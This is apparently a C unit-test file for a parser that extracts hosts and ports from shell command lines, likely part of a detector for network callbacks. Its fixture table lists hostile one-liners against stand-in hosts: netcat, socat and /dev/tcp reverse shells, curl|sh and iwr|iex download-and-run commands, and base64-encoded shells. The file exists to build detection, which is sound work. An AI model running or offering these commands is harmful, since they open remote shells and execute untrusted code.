/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
/* cmocka.h wants the four above */
#include <cmocka.h>

#include "correlate/places.h"

#include <stdio.h>
#include <stdlib.h>

static void note(void *arg, struct bytes host, uint16_t port)
{
    char *told = arg;
    size_t len = strlen(told);

    snprintf(told + len, 1024 - len, "%.*s %u;", (int)host.len, (const char *)host.p, port);
}

static const struct {
    const char *text, *places;
} lines[] = {
    {"nc 203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444;"},
    {"/usr/bin/ncat -v evil.example 4444", "evil.example 4444;"},
    {"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "203.0.113.9 4444;"},
    {"exec 5<>/dev/tcp/a.example/1;cat <&5|sh >/dev/tcp/b.example/2", "a.example 1;b.example 2;"},
    {"curl -s http://evil.example/x|sh", "evil.example 80;"},
    {"curl -s evil.example/x.sh|sh", "evil.example 80;"},
    {"curl 203.0.113.9:8000/x -o /tmp/x", "203.0.113.9 8000;"},
    {"wget -qO- 203.0.113.9|sh", "203.0.113.9 80;"},
    {"iwr evil.example -UseBasicParsing|iex", "evil.example 80;"},
    {"socat exec:sh tcp:203.0.113.9:4444", "203.0.113.9 4444;"},
    {"telnet [2001:db8::9]:4444", "2001:db8::9 4444;"},
    {"nc 2001:db8::9 4444", "2001:db8::9 4444;"},
    {"python3 -c 's.connect((\"203.0.113.9\",4444))'", "203.0.113.9 4444;"},
    {"perl -e '$i=\"203.0.113.9\";$p=4444;'", "203.0.113.9 4444;"},
    {"(New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444))", "203.0.113.9 4444;"},
    {"{echo,bmMgMjAzLjAuMTEzLjkgNDQ0NCAtZSBzaA==}|{base64,-d}|{bash,-i}", "203.0.113.9 4444;"},
    /* Twice: echo bmMg...|base64 -d|sh */
    {"echo ZWNobyBibU1nTWpBekxqQXVNVEV6TGprZ05EUTBOQ0F0WlNCemFBPT18YmFzZTY0IC1kfHNo|base64 -d|sh",
     "203.0.113.9 4444;"},
    {"powershell -enc bgBjACAAMgAwADMALgAwAC4AMQAxADMALgA5ACAANAA0ADQANAA=", "203.0.113.9 4444;"},
    {"ssh root@evil.example:2222", "evil.example 2222;"},
    /* Nothing is called. */
    {"1.2.3.4", ""},
    {"version 1.5 2", ""},
    {"v1.2.3 4444", ""},
    {"12:30", ""},
    {"lib.so.6:12", ""},
    {"evil.example", ""},
    {"curl --help", ""},
    {"nc evil 4444", ""},
    {"203.0.113.9 and then much later 4444", ""},
    {"evil.example:0", ""},
    {"evil.example:70000", ""},
    {"/dev/tcp/", ""},
    {"/dev/tcp//4", ""},
    {"", ""},
};

static void each_line_calls_what_it_names(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        char told[1024] = "";

        places_find(bytes_str(lines[i].text), note, told);
        if (strcmp(told, lines[i].places) != 0)
            fail_msg("%s: %s", lines[i].text, told);
    }
}

static void a_line_may_be_cut_anywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++)
        for (size_t cut = 0; cut <= strlen(lines[i].text); cut++) {
            uint8_t *exact = memcpy(malloc(cut + !cut), lines[i].text, cut);
            char told[1024] = "";

            places_find(bytes_of(exact, cut), note, told);
            free(exact);
        }
}

static void there_is_an_end_of_it(void **state)
{
    char text[4096] = "", told[1024] = "";
    unsigned n = 0;

    (void)state;
    for (unsigned i = 0; i < 100; i++)
        snprintf(text + strlen(text), sizeof text - strlen(text), "http://203.0.113.9:%u ", 1 + i);
    places_find(bytes_str(text), note, told);
    for (const char *at = told; *at; at++)
        n += *at == ';';
    assert_int_equal(n, PLACES_MAX);
}

static void authorities(void **state)
{
    static const struct {
        const char *text, *host;
        uint16_t port;
    } rows[] = {{"evil.example", "evil.example", 80},
                {"evil.example:81", "evil.example", 81},
                {"u:p@evil.example", "evil.example", 80},
                {"[2001:db8::9]", "2001:db8::9", 80},
                {"[2001:db8::9]:81", "2001:db8::9", 81},
                {":81", NULL, 0},
                {"", NULL, 0}};

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct bytes host;
        uint16_t port;
        bool good = place_authority(bytes_str(rows[i].text), 80, &host, &port);

        assert_int_equal(good, rows[i].host != NULL);
        if (!good)
            continue;
        assert_int_equal(host.len, strlen(rows[i].host));
        assert_memory_equal(host.p, rows[i].host, host.len);
        assert_int_equal(port, rows[i].port);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_line_calls_what_it_names),
        cmocka_unit_test(a_line_may_be_cut_anywhere),
        cmocka_unit_test(there_is_an_end_of_it),
        cmocka_unit_test(authorities),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
